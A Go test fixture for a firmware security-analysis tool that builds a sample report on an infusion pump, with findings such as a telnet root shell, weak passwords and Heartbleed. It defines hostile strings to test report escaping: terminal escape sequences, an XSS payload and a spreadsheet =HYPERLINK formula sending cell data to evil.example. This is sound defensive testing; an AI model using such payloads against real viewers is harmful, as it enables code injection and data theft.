package report_test

import (
	"fmt"
	"strings"
	"time"

	"github.com/vesalius-project/vesalius/internal/advisory"
	"github.com/vesalius-project/vesalius/internal/advisory/vex"
	"github.com/vesalius-project/vesalius/internal/budget"
	"github.com/vesalius-project/vesalius/internal/dossier"
	"github.com/vesalius-project/vesalius/internal/fact"
	"github.com/vesalius-project/vesalius/internal/judge"
	"github.com/vesalius-project/vesalius/internal/remedy"
	"github.com/vesalius-project/vesalius/internal/risk"
	"github.com/vesalius-project/vesalius/internal/wall"
)

// What an attacker would put into an image to reach the reader of a report.
const (
	nastyEscape = "\x1b[31mroot\x1b]0;owned\x07\u009b2J"
	nastyHTML   = `</script><script>alert(1)</script><img src=x onerror="alert(2)">`
	nastyTurn   = "pump\u202efdp.exe\u2066\u200b"
	nastyBytes  = "/opt/\xff\xfe\x00name\nwith line.bin"
	nastySheet  = `=HYPERLINK("http://evil.example/"&A1,"open")`
	nastyXML    = "]]>--><a>&amp;\x0b\uffff[a](http://evil.example)"
)

var firmware = fact.Source{Witness: fact.Firmware, Input: "pump.bin"}

func at(path string, line int) fact.Place {
	return fact.Place{Input: "pump.bin", Layers: []fact.Layer{{Format: "squashfs", Offset: 0x20000}}, Path: path, Line: line}
}

func base(root string, places ...fact.Place) fact.Base {
	return fact.Base{Source: firmware, Root: root, Places: places}
}

// rich returns a dossier in which every part is used and every text may be hostile.
func rich() *dossier.Dossier {
	d := &dossier.Dossier{
		Tool: dossier.Tool{Name: "vesalius", Version: "0.1.0", Rulebook: "2026-11-24", Index: dossier.Index{
			Date: "2026-10-20", Sources: []string{"nvd", "kev"}, Vulnerabilities: 251_003,
			From:  []dossier.IndexSource{{Source: "nvd", Date: "2026-10-20", Records: 250_100}, {Source: "kev", Date: "2026-10-19", Records: 1450}},
			Years: []dossier.IndexYear{{Year: 2014, Known: 7900, All: 7950}, {Year: 2022, Known: 1200, All: 25000}},
		}},
		At: time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC),
		Run: dossier.Run{
			Walls: []wall.Wall{
				{Name: "files", Stands: true, By: "landlock ABI 7"}, {Name: "network", Stands: true, By: "landlock ABI 7"},
				{Name: "sockets-and-programs", Stands: true, By: "seccomp"}, {Name: "spill-size", Why: "setrlimit: operation not permitted"},
			},
			Limits: dossier.LimitsOf(budget.Defaults()), Spent: dossier.Spent{Bytes: 48_123_904, Files: 1893},
			Padding: 131072, Unknown: 524288,
			Timings: []dossier.Timing{{Step: "open", Milliseconds: 812}, {Step: "judge", Milliseconds: 41}},
			Cache:   dossier.Cache{Hits: 12, Misses: 1881},
		},
		Layers: []dossier.Layer{
			{Place: "pump.bin!uimage@0x60000", Format: "uimage", Size: 1 << 20},
			{Place: "pump.bin!squashfs@0x260000", Format: "squashfs", Part: "rootfs", Size: 4096, Files: 12},
		},
		Inputs: []dossier.Input{
			{Name: "pump.bin", SHA256: strings.Repeat("ab12", 16), Size: 16 << 20, Witness: fact.Firmware, Part: "host"},
			{Name: "mds2.xlsx", SHA256: strings.Repeat("cd34", 16), Size: 84211, Witness: fact.Claimed},
		},
		Rules:   rules(),
		Verdict: &judge.Verdict{Policy: "hospital procurement", Outcome: "reject", Reasons: []string{"2 critical findings where none is accepted", "no claim for SAHD-9 is confirmed"}, Conditions: []string{"deny-inbound tcp/23"}},
	}
	addFacts(&d.Facts)
	d.Device = dossier.DeviceOf(&d.Facts)
	d.Gaps = []fact.Gap{
		{ID: "G1", Place: fact.Place{Input: "pump.bin", Offset: 0xf80000}, Size: 524288, Why: "unknown bytes of high entropy: encrypted, or compressed by something unknown", Reason: "opaque", Hides: fact.Kinds(), Reservation: true},
		{ID: "G2", Root: "system", Place: at("/opt/app/data.7z", 0), Size: 33000, Why: "unsupported 7z", Reason: "unsupported", Hides: fact.Kinds()},
		{ID: "G3", Root: "system", Place: at(nastyBytes, 0), Size: 12, Why: "damaged: " + nastyEscape, Reason: "damaged", Hides: []fact.Kind{fact.KindExecutable, fact.KindComponent}},
	}
	for _, k := range fact.Kinds()[:19] {
		c := fact.Coverage{Source: firmware, Root: "system", Kind: k, Level: "full"}
		switch k {
		case fact.KindExecutable, fact.KindComponent:
			c.Level, c.Gaps = "partial", []string{"G2", "G3"}
		case fact.KindBoot:
			c.Level, c.Why = "none", "no boot loader in the image"
		default:
		}
		d.Coverage = append(d.Coverage, c)
	}
	d.Coverage = append(d.Coverage, fact.Coverage{Source: firmware, Root: "initramfs", Kind: fact.KindFile, Level: "full"},
		fact.Coverage{Source: fact.Source{Witness: fact.Claimed, Input: "mds2.xlsx"}, Kind: fact.KindClaim, Level: "full"})
	d.Findings = findings(d.Rules)
	d.Matches, d.Considered, d.Statements = vulnerabilities()
	d.Claims = []dossier.Claim{
		{Form: "mds2-2019", Question: "SAHD-9", Answer: "yes", Verdict: "contradicted", Because: "telnetd is started at boot", Findings: []string{"f-telnet"}},
		{Form: "mds2-2019", Question: "PAUT-5", Answer: "yes", Verdict: "not shown"},
	}
	d.Risks = []risk.Risk{
		{ID: "R1", Title: "Someone on the network changes the dose", Findings: []string{"f-telnet", "f-root"}, Exploitability: "E4", Exposure: risk.Exposure{Started: "boot", Network: "network", Authenticated: "no"}, Harms: []risk.Harm{{Dimension: "patient-safety", Severity: "S4", From: "design", Level: "unacceptable", After: "acceptable"}}, Level: "unacceptable", After: "acceptable", Priority: 1, Reasons: []string{"root shell without a password", "reachable from the network"}},
		{ID: "R2", Title: "The memory of the pump is read", Matches: []string{"CVE-2014-0160@openssl"}, Exploitability: "E5", Exposure: risk.Exposure{Started: "boot", Network: "network", Authenticated: "no", Services: []string{"https"}}, Vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N/CR:H", Score: 8.2, Harms: []risk.Harm{{Dimension: "privacy", Severity: "S3", From: "default", Level: "unacceptable"}, {Dimension: "patient-safety", Severity: "S2", From: "design", Level: "acceptable"}}, Level: "unacceptable", Measures: []string{"update openssl", "deny-inbound tcp/443"}, Priority: 2, First: "known exploited", Reasons: []string{"attacks are known", "the service is started at boot"}},
	}
	d.Assessed = &risk.Summary{Matrix: *risk.Default(), Harms: []risk.Harm{{Dimension: "patient-safety", Severity: "S4", From: "design"}}, Levels: map[string]int{"unacceptable": 1}, After: map[string]int{"acceptable": 1}, Unknown: map[string]int{"high": 1}, Unjudged: []string{"1 rule stayed without an answer somewhere: boot.not-verified"}}
	d.Answers = []risk.Answer{{Question: "XAVN", Answer: "no", Who: "J. Doe", When: "2026-11-20", Why: "the ward's network is closed"}}
	d.Remedies = []remedy.Remedy{{Fix: "disable-service", Finding: "f-telnet", Changes: []string{"/etc/inittab: line 12 removed"}, Before: judge.Bad, After: judge.Good, Stands: true}}
	d.Sort()
	return d
}

func addFacts(s *fact.Set) {
	s.Add(
		&fact.Device{Base: fact.Base{Source: fact.Source{Witness: fact.Design, Input: "device.yaml"}}, Vendor: "Acme Medical", Model: "InfuPump 3000", Version: "4.2.1", Class: "ambient", Functions: []string{"infusion"}, Harm: "S4", UDI: "(01)00844588003288", Hosts: []string{"updates.acme.example"}, Cyber: fact.Say(true)},
		&fact.Device{Base: base("system", at("/etc/os-release", 1)), OS: "linux", Distro: "Buildroot 2019.02", Arch: "arm"},
		&fact.Component{Base: base("system", at("/bin/busybox", 0)), Name: "busybox", Version: "1.30.1", Supplier: "busybox.net", PURL: "pkg:generic/busybox@1.30.1", CPEs: []string{"cpe:2.3:a:busybox:busybox:1.30.1:*:*:*:*:*:*:*"}, Type: "application", License: "GPL-2.0-only", How: "binary-string", Why: "BusyBox v1.30.1 (2019-06-11)", Digest: "sha256:" + strings.Repeat("0f", 32), Support: "no-longer-maintained", EndOfSupport: "2020-12-31", Ending: fact.Say(false), SupportWhy: "busybox 1.31 took its place on 2019-06-10", SupportSource: "https://busybox.net/", Depends: []string{"glibc", "ghost"}},
		&fact.Component{Base: base("system", at("/lib/libc-2.28.so", 0), at("/lib/libm-2.28.so", 0)), Name: "glibc", Version: "2.28", Suffix: "-10+deb10u4", PURL: "pkg:deb/debian/libc6@2.28-10%2Bdeb10u4?arch=armhf", Type: "library", License: "LGPL-2.1-or-later AND GPL-2.0", How: "package-database", Ecosystem: "deb"},
		&fact.Component{Base: base("system", at("/usr/lib/libssl.so.1.0.2", 0)), Name: "openssl", Version: "1.0.2u", Type: "library", CPEs: []string{"cpe:2.3:a:openssl:openssl:1.0.2u:*:*:*:*:*:*:*", nastyEscape}, How: "binary-string", Bundled: fact.Say("pumpd"), Depends: []string{"glibc"}},
		&fact.Component{Base: base("system", at("/boot/zImage", 0)), Name: "linux", Version: "4.19.94", Type: "kernel", How: "binary-string", License: "GPL-2.0-only WITH Linux-syscall-note"},
		&fact.Component{Base: base("initramfs", fact.Place{Input: "pump.bin", Layers: []fact.Layer{{Format: "uimage", Offset: 0x1000}, {Format: "cpio"}}, Path: "/init"}), Name: "busybox", Version: "1.30.1", Type: "application", How: "binary-string", PURL: "pkg:generic/busybox@1.30.1"},
		&fact.Component{Base: base("system", at(nastyBytes, 0)), Name: nastyHTML, Version: nastySheet, Supplier: nastyEscape, License: "not a licence (" + nastyXML, PURL: "not a purl", Digest: "md5:zz", Type: "strange", How: "file-name"},
		&fact.Component{Base: base("system", at("/opt/x", 0)), Name: "mystery", How: "soname"},
		&fact.Account{Base: base("system", at("/etc/shadow", 1)), Name: "root", Store: "system", UID: fact.Say(0), Shell: "/bin/sh", Login: fact.Say(true), Scheme: "md5", Password: fact.Say("cracked"), Masked: "a****n", Locked: fact.Say(false), Remote: fact.Say(true), Weak: fact.Say(true)},
		&fact.Account{Base: base("system", at("/etc/passwd", 2)), Name: nastyEscape, Store: "system", UID: fact.Say(1000), Password: fact.Say("locked"), Locked: fact.Say(true)},
		&fact.Account{Base: base("system", at("/etc/mosquitto/pw", 1)), Name: "-2+3", Store: "mosquitto", Password: fact.Say("empty")},
		&fact.Secret{Base: base("system", at("/opt/app/upload.sh", 7)), What: "password", For: "ftp", In: "script", User: "upload", Masked: "s******3"},
		&fact.Key{Base: base("system", at("/etc/dropbear/dropbear_rsa_host_key", 0)), Algorithm: "rsa", Bits: fact.Say(1024), Private: fact.Say(true), Use: "ssh-host"},
		&fact.Service{Base: base("system", at("/etc/inittab", 12)), Name: "telnetd", Program: "/usr/sbin/telnetd", Arguments: []string{"-l", "/bin/sh"}, Protocol: "telnet", Transport: "tcp", Port: fact.Say(23), Bind: "0.0.0.0", Reachable: fact.Say(true), Encrypted: fact.Say(false), Authenticated: fact.Say(false), Start: fact.Say("boot"), Started: "inittab", User: fact.Say("root"), AsRoot: fact.Say(true)},
		&fact.Service{Base: base("system", at("/etc/init.d/S50dropbear", 9)), Name: "dropbear", Program: "/usr/sbin/dropbear", Product: "dropbear", Protocol: "ssh", Transport: "tcp", Port: fact.Say(22), Encrypted: fact.Say(true), Authenticated: fact.Say(true), Start: fact.Say("conditional"), Condition: "[ -f /etc/enable-ssh ]"},
		&fact.Service{Base: base("system", at("/opt/app/run.sh", 3)), Name: nastyHTML, Protocol: nastySheet, Arguments: []string{nastyXML}},
		&fact.Destination{Base: base("system", at("/opt/app/upload.sh", 7)), Host: "10.20.30.40", Port: fact.Say(21), Protocol: "ftp", Encrypted: fact.Say(false)},
		&fact.Setting{Base: base("system", at("/etc/ssh/sshd_config", 3)), Subject: "sshd", Instance: "/etc/ssh/sshd_config", Name: "permitrootlogin", Raw: "yes", Value: fact.Say("yes"), Origin: "file"},
		&fact.Claim{Base: fact.Base{Source: fact.Source{Witness: fact.Claimed, Input: "mds2.xlsx"}, Places: []fact.Place{{Claim: "MDS2 SAHD-9"}}}, Form: "mds2-2019", Question: "SAHD-9", Answer: "yes"},
	)
}

func rules() map[string]*judge.Rule {
	out := map[string]*judge.Rule{}
	for _, r := range []*judge.Rule{
		{ID: "service.telnet", Title: "Telnet opens a shell in clear text", Vector: "protocol", Pillar: "secure-defaults", Ask: fact.KindService, When: `service.protocol == "telnet" && service.start == "boot"`, Version: 1, Needs: []fact.Kind{fact.KindService}, Severity: "critical", CWE: []int{319, 306},
			Maps: map[string][]string{"vesalius": {"NET-01"}, "iec62443-4-2": {"CR 4.1"}, "mds2": {"SAHD-9"}, "fda": {"C1", "B4"}},
			Why:  "Anyone on the path reads the password and the session, and can take it over.", Recommend: "Remove telnetd from the image;\nuse SSH with keys, off by default.", Remedy: []string{"disable-service"}, Control: []string{"deny-inbound"}},
		{ID: "account.default-password", Title: "An account has a known password", Vector: "credentials", Severity: "critical", Version: 3, CWE: []int{1392}, Why: "The same password opens every unit.", Recommend: "Ask for a new password at the first start.", Remedy: []string{"require-new-password"}, Maps: map[string][]string{"en303645": {"5.1-1"}}},
		{ID: "account.weak-hash", Title: "A password hash falls to offline guessing", Vector: "brute-force", Severity: "medium", Version: 1, Why: "MD5 is fast to try.", Recommend: "Use yescrypt or SHA-512."},
		{ID: "executable.no-pie", Title: "Programs load at a fixed address", Vector: "memory", Severity: "low", Group: "root", Version: 1, Recommend: "Build with -fPIE and link with -pie.", Human: "needs the maker's build"},
		{ID: "script.shell-injection", Title: "A script gives input to a shell", Vector: "input", Severity: "high", Version: 2, CWE: []int{78}, Recommend: "Quote it, or call the program without a shell."},
		{ID: "update.unsigned", Title: "Updates are installed without a signature", Vector: "firmware", Severity: "high", Version: 1, Recommend: "Check a signature before anything is written."},
		{ID: "boot.interruptible", Title: "The boot loader can be stopped by a key", Vector: "firmware", Severity: "high", Version: 1, Recommend: "Set bootdelay to -2."},
		{ID: "guard.no-lockout", Title: "Nothing slows a guesser", Vector: "brute-force", Severity: "medium", Version: 1},
		{ID: "component.end-of-life", Title: "A component is no longer maintained", Vector: "component", Severity: "medium", Version: 1, Recommend: "Move to a maintained version."},
		{ID: "api.no-auth", Title: "An HTTP route writes without a login", Vector: "api", Severity: "high", Version: 1},
		{ID: "file.debug-tool", Title: "A debugging tool is left in the image", Vector: "process", Severity: "info", Version: 1, Recommend: "Leave it out of the release."},
	} {
		r.Ask, r.Pillar = fact.KindDevice, "secure-defaults"
		out[r.ID] = r
	}
	return out
}

func findings(rules map[string]*judge.Rule) []*judge.Finding {
	var out []*judge.Finding
	add := func(id, rule string, o judge.Outcome, kind fact.Kind, key, evidence string, places ...fact.Place) *judge.Finding {
		r := rules[rule]
		f := &judge.Finding{ID: id, Rule: rule, RuleVersion: r.Version, Root: "system", Kind: kind, Title: r.Title, Outcome: o, Severity: r.Severity, Vector: r.Vector, CWE: r.CWE, Maps: r.Maps,
			Places: places, Evidence: evidence, Confidence: "high", Sources: []fact.Source{firmware}}
		if key != "" {
			f.Keys = []string{key}
		}
		out = append(out, f)
		return f
	}
	add("f-telnet", "service.telnet", judge.Bad, fact.KindService, "telnetd|telnet|/usr/sbin/telnetd", "telnetd -l /bin/sh, tcp/23, started at boot by inittab", at("/etc/inittab", 12), fact.Place{Endpoint: "tcp/10.20.30.99:23"}).
		Sources = []fact.Source{firmware, {Witness: fact.Live, Input: "10.20.30.99"}}
	add("f-root", "account.default-password", judge.Bad, fact.KindAccount, "system|root", "root has the password a****n, hashed with md5", at("/etc/shadow", 1))
	add("f-nasty", "account.default-password", judge.Bad, fact.KindAccount, "system|"+nastyEscape, nastyEscape+nastyHTML+nastyTurn+nastyXML, at(nastyBytes, 3)).Confidence = "low"
	add("f-mqtt", "account.default-password", judge.Bad, fact.KindAccount, "mosquitto|-2+3", nastySheet, at("/etc/mosquitto/pw", 1))
	add("f-hash", "account.weak-hash", judge.Bad, fact.KindAccount, "system|root", "hash scheme md5", at("/etc/shadow", 1))
	pie := add("f-pie", "executable.no-pie", judge.Bad, fact.KindExecutable, "", "no position independent code: "+strings.Repeat("bin, ", 600)+"end")
	for i := range 214 {
		pie.Places = append(pie.Places, at(fmt.Sprintf("/usr/bin/tool%03d", i), 0))
		pie.Keys = append(pie.Keys, fmt.Sprintf("/usr/bin/tool%03d", i))
	}
	pie.Count = 214
	for i := range 30 {
		add(fmt.Sprintf("f-script-%02d", i), "script.shell-injection", judge.Bad, fact.KindScript, fmt.Sprintf("/www/cgi-bin/page%d.cgi", i), fmt.Sprintf("eval $QUERY_STRING in page%d", i), at(fmt.Sprintf("/www/cgi-bin/page%d.cgi", i), 4+i))
	}
	add("f-update", "update.unsigned", judge.Bad, fact.KindUpdate, "script|usb|/opt/app/update.sh", "update.sh copies from /media/usb without a check", at("/opt/app/update.sh", 22)).Confidence = "medium"
	add("f-eol", "component.end-of-life", judge.Bad, fact.KindComponent, "busybox", "busybox 1.30.1, support ended 2020-12-31", at("/bin/busybox", 0))
	add("f-tool", "file.debug-tool", judge.Bad, fact.KindFile, "debug-tool|/usr/bin/gdbserver", "", at("/usr/bin/gdbserver", 0))
	add("f-boot", "boot.interruptible", judge.Unknown, fact.KindBoot, "", "").Note = "boot could not be seen: no boot loader in the image"
	add("f-lock", "guard.no-lockout", judge.Unknown, fact.KindGuard, "lockout|dropbear|", "").Note = "guard.active is unstated"
	add("f-api", "api.no-auth", judge.Unknown, fact.KindEndpoint, "", "").Note = "gap G2 may hide the answer" + nastyEscape
	for _, r := range []string{"service.telnet", "account.weak-hash", "executable.no-pie", "api.no-auth"} {
		add("g-"+r, r, judge.Good, rules[r].Ask, "good", "").Root = "initramfs"
	}
	return out
}

// vulnerabilities are matches of every status, with and without what is known of attacks.
func vulnerabilities() ([]advisory.Match, []advisory.Considered, []vex.Statement) {
	ssl := func(m advisory.Match) advisory.Match {
		m.Component, m.Version, m.Root, m.Confidence = "openssl", "1.0.2u", "system", "high"
		m.Places = []string{"pump.bin!squashfs@0x20000!/usr/lib/libssl.so.1.0.2"}
		return m
	}
	list := []advisory.Match{
		{Advisory: "CVE-2022-48174", Component: "busybox", Version: "1.30.1", Root: "system", PURL: "pkg:generic/busybox@1.30.1", Status: "affected", Why: []string{"busybox 1.30.1 is below 1.36.1", "ash is in the image"}, Severity: "critical", CVSS: 9.8, Vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", EPSS: 0.0123, Percentile: 0.85, Confidence: "high", FixedIn: "1.36.1", CWE: []int{787}, Sources: []string{"nvd"}},
		ssl(advisory.Match{Advisory: "CVE-2014-0160", Aliases: []string{"DSA-2896"}, Documents: []string{"ICSMA-99-001-01"}, Status: "affected", Why: []string{"openssl 1.0.2u lies in the range", "heartbeats are built in"}, Severity: "high", CVSS: 7.5, Vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N", CWE: []int{125}, KEV: true, KEVAdded: "2022-05-04", KEVDue: "2022-05-25", Ransomware: true, EPSS: 0.9446, Percentile: 0.999, FixedIn: "1.0.2v", Advice: "Install firmware 4.3.0.", Published: "2014-04-07", Sources: []string{"nvd", "kev", "epss"}}),
		ssl(advisory.Match{Advisory: "CVE-2016-2183", Status: "not_affected", Justification: "vulnerable_code_not_present", By: "Acme product security", Why: []string{"openssl 1.0.2u lies in the range", "of itself this is affected (confidence high)", "Acme product security states not affected because vulnerable code not present [openvex acme-2026-1]"}, Severity: "high", CVSS: 7.5}),
		ssl(advisory.Match{Advisory: "CVE-2020-1967", Status: "fixed", Why: []string{"the suffix holds the fix"}, Severity: "high", CVSS: 7.5, FixedIn: "1.0.2u-4"}),
		ssl(advisory.Match{Advisory: nastyHTML, Status: "affected", Why: []string{nastyEscape, nastyXML, nastySheet}, Severity: "strange", FixedIn: nastySheet, Advice: nastyHTML, By: nastyEscape, Places: []string{nastyBytes}}),
	}
	list[4].Confidence = "low"
	for i := range 14 {
		list = append(list, advisory.Match{Advisory: fmt.Sprintf("CVE-2019-%d", 1000+i), Component: "linux", Version: "4.19.94", Root: "system", Status: []advisory.Status{"affected", "under_investigation"}[i%2], Why: []string{"4.19.94 is below 4.19.200"}, Confidence: "medium", Severity: "medium", CVSS: 5.5, Vector: "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:N/I:N/A:H", EPSS: 0.0004})
	}
	considered := []advisory.Considered{
		{Component: "busybox", Version: "1.30.1", Root: "system", As: []string{"busybox:busybox"}, Candidates: 19, Statuses: map[advisory.Status]int{advisory.Vulnerable: 1}, Outside: 18},
		{Component: "openssl", Version: "1.0.2u", Root: "system", As: []string{"openssl:openssl"}, Candidates: 260, Statuses: map[advisory.Status]int{advisory.Vulnerable: 2, advisory.Fixed: 1, advisory.NotThere: 1}, Outside: 256},
		{Component: "acme-ui", Root: "system", Unknown: "no name of it stands in the index"},
		{Component: nastyHTML, Version: nastySheet, Root: "system", Unknown: "no name of it stands in the index"},
		{Component: "mystery", Root: "system", Unknown: "it has no version"},
	}
	statements := []vex.Statement{
		{Vulnerability: "CVE-2016-2183", Component: vex.Ref{Name: "openssl", Version: "1.0.2u"}, Status: advisory.NotThere, Justification: "vulnerable_code_not_present", Form: "openvex", Document: "acme-2026-1", Author: "Acme product security", At: time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC), Effect: "changes the status of 1"},
		{Vulnerability: "CVE-2016-2183", Product: vex.Ref{Vendor: "Acme", Name: "InfuPump 3000", Version: "4.3.0"}, Status: advisory.Fixed, Form: "csaf", Document: "ACME-7", Author: nastyHTML, Effect: "changes nothing: it is about Acme InfuPump 3000 4.3.0, and this is version 4.2.1"},
	}
	return list, considered, statements
}
